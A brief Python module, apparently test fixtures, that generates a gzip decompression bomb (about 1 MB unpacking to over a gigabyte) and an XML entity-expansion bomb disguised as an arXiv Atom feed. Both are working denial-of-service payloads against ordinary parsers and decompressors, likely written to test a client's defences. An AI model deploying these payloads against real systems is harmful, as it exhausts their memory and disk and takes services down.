"""Small data that grows without measure where it is unpacked or expanded."""

import zlib
from functools import lru_cache

GIGABYTE = 1 << 30
_BLOCK = 1 << 22
_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"


@lru_cache(maxsize=16)
def gzip_bomb(beginning: bytes) -> bytes:
    """About a megabyte of gzip that unpacks to `beginning` and more than a gigabyte of zeros.

    A flushed block of deflate stands for itself, so one of 4 MB is repeated. The checksum at the
    end is wrong: a reader that unpacks so far has lost already.
    """
    blocks = _flushed(bytes(_BLOCK)) * (GIGABYTE // _BLOCK + 1)
    return _HEAD + _flushed(beginning) + blocks + b"\x03\x00" + bytes(8)


def _flushed(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush(zlib.Z_FULL_FLUSH)


def entity_bomb() -> str:
    """An Atom feed whose summary expands to ten to the power of twelve letters."""
    entities = "".join(f"<!ENTITY e{level} '{f'&e{level - 1};' * 10}'>\n" for level in range(1, 13))
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE feed [<!ENTITY e0 "x">\n{entities}]>\n'
        '<feed xmlns="http://www.w3.org/2005/Atom"><title>arXiv Query</title>\n'
        "<entry><id>http://arxiv.org/abs/2110.02037v1</id><title>T</title>"
        "<summary>&e12;</summary></entry></feed>\n"
    )
